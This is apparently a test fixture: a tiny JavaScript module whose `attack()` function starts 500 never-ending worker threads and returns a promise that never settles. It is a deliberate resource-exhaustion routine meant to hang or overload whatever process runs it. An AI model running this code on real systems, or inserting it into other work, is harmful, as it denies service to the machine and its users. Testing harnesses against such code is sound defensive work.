import { Worker } from "node:worker_threads";

export function attack() {
  for (let n = 0; n < 500; n++) new Worker("setInterval(() => {}, 1000)", { eval: true }).on("error", () => {});
  return new Promise(() => setInterval(() => {}, 1000));
}
